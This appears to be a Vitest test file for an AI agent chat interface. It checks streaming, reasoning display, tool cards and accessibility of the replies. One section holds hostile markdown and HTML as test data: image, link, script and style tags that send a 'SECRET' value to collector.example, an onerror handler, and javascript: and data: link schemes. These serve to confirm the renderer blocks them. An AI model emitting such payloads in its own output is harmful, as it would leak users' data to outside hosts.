// The conversation: what streams is what stays, showing it asks nothing of anybody, and the reader is left where they are.
import { afterEach, describe, expect, test } from 'vitest'
import { PAGE_SIZE } from '../../../src/storage/log/projections/transcript-items.ts'
import type { Entry } from '../../unit/projections/build-log.ts'
import {
  call,
  chunk,
  delta,
  end,
  finish,
  message,
  stepEnd,
  stepStart,
  text,
  turnEnd,
  turnStart,
  userSays,
} from '../../unit/projections/build-log.ts'
import { expectSoon, frame, mountApp, row, shownText, unmountAll } from './mount.tsx'

afterEach(unmountAll)

const DOCUMENT = `# Title

Some *emphasis* and \`code\`.

- one
- two

| a | b |
|---|--:|
| 1 | 2 |

\`\`\`js
const x = 1
\`\`\`

The last words &amp; more.`

const opened = async () => {
  const page = await mountApp({ sessions: [row('a', 'One')], address: 'a' })
  await expectSoon(() => expect(page.app.current.opened.value.kind).toBe('open'))
  const session = page.session('a')
  session.setLive({ status: 'running' })
  session.write([turnStart, userSays('go'), stepStart()])
  await frame()
  return { ...page, session }
}

describe('A2 a reply', () => {
  test('looks the same when it has streamed as when it is shown at once', async () => {
    const page = await opened()
    for (const piece of DOCUMENT.match(/[\s\S]{1,11}/g) ?? []) {
      page.session.write([delta(piece)])
      await frame()
    }
    page.session.write([end(text(DOCUMENT)), finish(), message([text(DOCUMENT)]), stepEnd(), turnEnd()])
    page.session.setLive({ status: 'idle' })
    await frame()
    const streamed = page.one('.prose').innerHTML
    unmountAll()
    const again = await opened()
    again.session.write([message([text(DOCUMENT)])])
    await frame()
    expect(again.one('.prose').innerHTML).toBe(streamed)
    expect(again.all('[data-item=assistant]')).toHaveLength(1)
  })

  test('P-g01 keeps the nodes of its finished blocks while it grows and when it is done', async () => {
    const page = await opened()
    page.session.write([delta('# Title\n\nFirst paragraph.\n\n```js\nlet x\n```\n\nSecond')])
    await frame()
    const before = page.all('.prose > *')
    page.session.write([delta(' paragraph.\n\nThird.')])
    await frame()
    expect(page.all('.prose > *').slice(0, 3)).toEqual(before.slice(0, 3))
    const whole = '# Title\n\nFirst paragraph.\n\n```js\nlet x\n```\n\nSecond paragraph.\n\nThird.'
    page.session.write([end(text(whole)), finish(), message([text(whole)]), stepEnd(), turnEnd()])
    await frame()
    for (const [index, node] of page.all('.prose > *').slice(0, 3).entries()) expect(node).toBe(before[index])
  })

  test('B8 keeps its nodes when the page that it is on is full', async () => {
    const page = await mountApp({ sessions: [row('a', 'One')], address: 'a' })
    await expectSoon(() => expect(page.app.current.opened.value.kind).toBe('open'))
    const session = page.session('a')
    const turn = (words: string) => [
      turnStart,
      userSays(words),
      stepStart(),
      delta(words),
      end(text(words)),
      finish(),
      message([text(words)]),
    ]
    for (let n = 2; n < PAGE_SIZE; n += 2) session.write([...turn(`turn ${n}`), stepEnd(), turnEnd()])
    session.write(turn('the last one of its page'))
    await frame()
    const [first] = page.all('.reply')
    const last = page.all('.reply').at(-1)
    session.write([stepEnd(), turnEnd()])
    await expectSoon(() => expect(page.all('.page--settled')).toHaveLength(1))
    expect(page.all('.reply')[0]).toBe(first)
    expect(page.all('.reply').at(-1)).toBe(last)
  })

  test('tells its state, and one that broke off stays readable', async () => {
    const page = await opened()
    page.session.write([delta('half a')])
    await frame()
    expect(page.one('[data-item=assistant]').dataset.state).toBe('streaming')
    page.session.write([stepEnd(), turnEnd({ kind: 'error', step: 1, message: 'The connection broke. Try again.' })])
    page.session.setLive({ status: 'idle' })
    await frame()
    expect(page.one('[data-item=assistant]').dataset.state).toBe('failed')
    expect(shownText(page.one('[data-item=assistant]'))).toContain('half a')
    expect(shownText(page.one('[data-item=error]'))).toContain('The connection broke. Try again.')
    expect(page.one('main').dataset.runState).toBe('paused')
    page.button('Try again').click()
    await expectSoon(() => expect(page.of('continue')).toHaveLength(1))
  })

  test('shows its reasoning closed, with the last line while it thinks', async () => {
    const page = await opened()
    page.session.write([chunk({ type: 'reasoning-delta', index: 0, text: 'First I look.\nThen I think' })])
    await frame()
    expect(shownText(page.one('.reasoning__line'))).toBe('Then I think')
    expect(page.all('.reasoning__text')).toEqual([])
    page.one('.reasoning__head').click()
    await frame()
    expect(page.one('.reasoning__text').textContent).toBe('First I look.\nThen I think')
  })
})

describe('A8 rendering safely', () => {
  test('P-h01 showing a message makes no request to another host', async () => {
    const page = await opened()
    const hostile = [
      '![x](https://collector.example/p.png?d=SECRET)',
      '[a link](https://collector.example/l?d=SECRET)',
      '<img src="https://collector.example/i.png?d=SECRET" onerror="window.stolen = 1">',
      '<link rel="prefetch" href="https://collector.example/f?d=SECRET"><script src="https://collector.example/s.js"></script>',
      '<style>body { background: url(https://collector.example/c.png) }</style>',
      '![ref][r]\n\n[r]: https://collector.example/r.png?d=SECRET',
    ].join('\n\n')
    for (const piece of hostile.match(/[\s\S]{1,7}/g) ?? []) page.session.write([delta(piece)])
    await frame()
    page.session.write([message([text(hostile)])])
    await frame()
    const asked = performance.getEntriesByType('resource').filter((entry) => entry.name.includes('collector.example'))
    expect(asked).toEqual([])
    expect(page.all('img, script, style, link, iframe, object, embed, video, audio, source, [style*=url]')).toEqual([])
    expect(page.all('[data-picture-host]').map((picture) => picture.dataset.pictureHost)).toEqual([
      'collector.example',
      'collector.example',
    ])
    expect('stolen' in window).toBe(false)
    expect(page.one('.prose').textContent).toContain('<img src=')
  })

  test('a link says where it goes and opens apart from this page', async () => {
    const page = await opened()
    page.session.write([delta('[your bank](https://evil.example/login) and https://plain.example/x')])
    await frame()
    const [bank, plain] = page.all('.prose a') as HTMLAnchorElement[]
    expect(bank).toMatchObject({ target: '_blank', rel: 'noopener noreferrer', title: 'https://evil.example/login' })
    expect(bank?.textContent).toBe('your bank (evil.example)')
    expect(plain?.textContent).toBe('https://plain.example/x')
  })

  test.each(['javascript:alert(1)', 'data:text/html,x', 'vbscript:x', './relative', '//no.scheme', 'java&#115;cript:alert(1)'])(
    'a link to %s is only words',
    async (address) => {
      const page = await opened()
      page.session.write([delta(`[words](<${address}>)`)])
      await frame()
      expect(page.all('.prose a')).toEqual([])
      expect(page.one('.prose').textContent).toBe('words')
    },
  )
})

describe('tool cards', () => {
  const code = '{"code":"1 + 1"}'
  const asked: readonly Entry[] = [message([call('c1', 'run_js', code)])]
  const started: Entry = ['tool/call', { turn: 1, step: 1, callId: 'c1', name: 'run_js', arguments: code }]
  const ended = (extra: object): Entry => [
    'tool/result',
    { turn: 1, step: 1, callId: 'c1', content: [text('2')], isError: false, ...extra },
  ]

  test('show what runs while it is being written, while it runs, and what came out', async () => {
    const page = await opened()
    page.session.write([
      chunk({ type: 'tool-call-delta', index: 0, id: 'c1', name: 'run_js', argumentsDelta: '{"code":"let a = \\"x\\";\\n1 +' }),
    ])
    await frame()
    const card = page.one('[data-item=tool]')
    expect(card.dataset.state).toBe('preparing')
    expect(card.querySelector('.code__text')?.textContent).toBe('let a = "x";\n1 +')
    page.session.write([...asked, started])
    await frame()
    expect(page.one('[data-item=tool]')).toBe(card)
    expect(card.dataset.state).toBe('running')
    page.session.write([ended({})])
    await frame()
    expect(card.dataset.state).toBe('done')
    expect(shownText(card.querySelector('.outcome') ?? card)).toContain('2')
  })

  test('of a failure say what went wrong and what happens now', async () => {
    const page = await opened()
    page.session.write([
      ...asked,
      started,
      ended({ content: [text('Error: boom')], isError: true, error: { name: 'Error', code: 'TOOL_FAILED' } }),
    ])
    await frame()
    const card = page.one('[data-item=tool]')
    expect(card.dataset.state).toBe('failed')
    expect(shownText(card)).toContain('Error: boom')
    expect(shownText(card)).toContain('The agent was told about the error')
  })

  test('of a command show all of it, what it printed, and its exit code', async () => {
    const page = await opened()
    const command = 'grep -rn one . |\n  sort'
    page.session.write([
      message([call('c3', 'bash', JSON.stringify({ command }))]),
      ['tool/call', { turn: 1, step: 1, callId: 'c3', name: 'bash', arguments: JSON.stringify({ command }) }],
      [
        'tool/result',
        { turn: 1, step: 1, callId: 'c3', content: [text('a\n[stderr]\nno\n[exit code 2]')], isError: true, meta: { exitCode: 2, ms: 3 } },
      ],
    ])
    await frame()
    const card = page.one('[data-tool=bash]')
    expect(card.querySelector('.code__text')?.textContent).toBe(command)
    expect(shownText(card.querySelector('.outcome__label') ?? card)).toBe('Exit code 2')
    expect(card.querySelector('.outcome')?.textContent).toContain('a\n[stderr]\nno')
  })

  test('of a tool without a view show its arguments and its result', async () => {
    const page = await opened()
    page.session.write([
      message([call('c2', 'weather', '{"city":"Lisbon"}')]),
      ['tool/call', { turn: 1, step: 1, callId: 'c2', name: 'weather', arguments: '{"city":"Lisbon"}' }],
      ['tool/result', { turn: 1, step: 1, callId: 'c2', content: [text('sunny')], isError: false }],
    ])
    await frame()
    expect(page.one('[data-tool=weather]').textContent).toContain('"city": "Lisbon"')
    expect(page.one('[data-tool=weather]').textContent).toContain('sunny')
  })
})

describe('A9 the live region', () => {
  test('speaks at the start, the end and an error, and not in between', async () => {
    const page = await opened()
    const spoken = page.one('[data-spoken]')
    expect(shownText(spoken)).toBe('The agent is working.')
    page.session.write([delta('some words')])
    await frame()
    expect(shownText(spoken)).toBe('The agent is working.')
    page.session.write([message([text('some words')]), stepEnd(), turnEnd()])
    page.session.setLive({ status: 'idle' })
    await frame()
    expect(shownText(spoken)).toBe('The agent is done.')
    expect(page.one('[role=log]').getAttribute('aria-live')).toBe('off')
  })
})

describe('messages that no person wrote', () => {
  test('are shown as notes of whoever did', async () => {
    const page = await opened()
    page.session.write([['steering/message', { id: 's1', turn: 1, content: [text('go on')], source: { kind: 'plugin', plugin: 'nudge' } }]])
    await frame()
    expect(shownText(page.one('[data-item=steering]'))).toBe('Said by nudgego on')
    expect(page.all('[data-item=user]')).toHaveLength(1)
  })
})
